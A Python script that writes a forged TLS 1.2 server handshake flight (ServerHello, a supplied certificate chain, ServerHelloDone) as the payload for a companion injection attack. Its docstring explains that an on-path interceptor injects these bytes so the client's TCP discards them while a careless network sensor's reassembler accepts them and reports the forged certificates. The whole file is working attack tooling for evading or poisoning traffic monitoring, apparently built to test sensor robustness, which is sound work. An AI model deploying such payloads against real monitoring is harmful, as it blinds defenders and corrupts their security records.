#!/usr/bin/env python3
"""Write the raw bytes of a plausible TLS 1.2 server flight, for inject.py's `flight` attack.

The flight is three TLS records of type 22 (handshake), version 0x0303, one handshake message
each:

  ServerHello       version 0x0303, 32 random bytes, empty session id, cipher 0xc02f
                    (ECDHE-RSA-AES128-GCM-SHA256), null compression, no extensions
  Certificate       the DER certificates of --chain, leaf first, with their 24-bit lengths
  ServerHelloDone   empty

An interceptor that knows a sensor parses handshakes can inject these bytes into a connection
so that TCP on the client discards them while a careless reassembler takes them for the real
server flight (and reports the certificates in it).

--sni is the name the fake flight pretends to answer: the ServerHello carries no extensions,
so the name is not written anywhere; it is checked against the leaf's subjectAltName dNSName
entries (a warning on stderr if the leaf does not name it).

After writing, the file is parsed back and every length checked; a mismatch exits non-zero.
"""

import argparse
import os
import re
import ssl
import sys

HANDSHAKE = 22
TLS12 = b"\x03\x03"
SERVER_HELLO, CERTIFICATE, SERVER_HELLO_DONE = 2, 11, 14
CIPHER = 0xC02F  # TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256


def u16(n: int) -> bytes:
    return n.to_bytes(2, "big")


def u24(n: int) -> bytes:
    return n.to_bytes(3, "big")


def record(content_type: int, body: bytes) -> bytes:
    if len(body) > 1 << 14:
        raise ValueError(f"record body of {len(body)} bytes exceeds 2^14")
    return bytes([content_type]) + TLS12 + u16(len(body)) + body


def handshake(msg_type: int, body: bytes) -> bytes:
    return bytes([msg_type]) + u24(len(body)) + body


def server_hello() -> bytes:
    body = TLS12 + os.urandom(32) + b"\x00" + u16(CIPHER) + b"\x00"
    return handshake(SERVER_HELLO, body)


def certificate(ders: list[bytes]) -> bytes:
    entries = b"".join(u24(len(d)) + d for d in ders)
    return handshake(CERTIFICATE, u24(len(entries)) + entries)


def flight(ders: list[bytes]) -> bytes:
    return b"".join(
        record(HANDSHAKE, m)
        for m in (server_hello(), certificate(ders), handshake(SERVER_HELLO_DONE, b""))
    )


def read_chain(path: str) -> list[bytes]:
    with open(path) as f:
        pem = f.read()
    blocks = re.findall(
        r"-----BEGIN CERTIFICATE-----.+?-----END CERTIFICATE-----", pem, flags=re.S
    )
    if not blocks:
        sys.exit(f"{path}: no certificates")
    return [ssl.PEM_cert_to_DER_cert(b) for b in blocks]


def names_leaf(der: bytes, name: str) -> bool:
    """Whether a dNSName GeneralName ([2] IMPLICIT IA5String) equal to name, or a wildcard
    covering it, occurs in the certificate (a byte search, enough for a sanity check)."""
    labels = name.split(".", 1)
    candidates = [name] + ([f"*.{labels[1]}"] if len(labels) == 2 else [])
    for n in candidates:
        raw = n.encode("ascii")
        if len(raw) < 128 and b"\x82" + bytes([len(raw)]) + raw in der:
            return True
    return False


def check(data: bytes, ders: list[bytes]) -> None:
    """Parse the flight back and check every length field; raise on any mismatch."""
    messages = []
    pos = 0
    while pos < len(data):
        assert data[pos] == HANDSHAKE and data[pos + 1 : pos + 3] == TLS12, "record header"
        length = int.from_bytes(data[pos + 3 : pos + 5], "big")
        body = data[pos + 5 : pos + 5 + length]
        assert len(body) == length, "record length"
        msg_type, msg_len = body[0], int.from_bytes(body[1:4], "big")
        assert msg_len == len(body) - 4, "handshake length"
        messages.append((msg_type, body[4:]))
        pos += 5 + length
    assert [t for t, _ in messages] == [SERVER_HELLO, CERTIFICATE, SERVER_HELLO_DONE]
    sh = messages[0][1]
    assert len(sh) == 2 + 32 + 1 + 2 + 1 and sh[:2] == TLS12 and sh[34] == 0
    assert int.from_bytes(sh[35:37], "big") == CIPHER and sh[37] == 0
    cert = messages[1][1]
    assert int.from_bytes(cert[:3], "big") == len(cert) - 3, "certificate list length"
    got, p = [], 3
    while p < len(cert):
        n = int.from_bytes(cert[p : p + 3], "big")
        got.append(cert[p + 3 : p + 3 + n])
        p += 3 + n
    assert got == ders, "certificates"
    assert messages[2][1] == b""


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--chain", required=True, help="PEM certificates, leaf first")
    ap.add_argument("--sni", required=True, help="the server name the flight answers")
    ap.add_argument("--out", required=True, help="file to write the raw flight bytes to")
    args = ap.parse_args()

    ders = read_chain(args.chain)
    if not names_leaf(ders[0], args.sni):
        print(f"warning: the leaf does not name {args.sni}", file=sys.stderr)
    data = flight(ders)
    check(data, ders)
    with open(args.out, "wb") as f:
        f.write(data)
    print(f"{args.out}: {len(data)} bytes, {len(ders)} certificate(s)", file=sys.stderr)


if __name__ == "__main__":
    main()
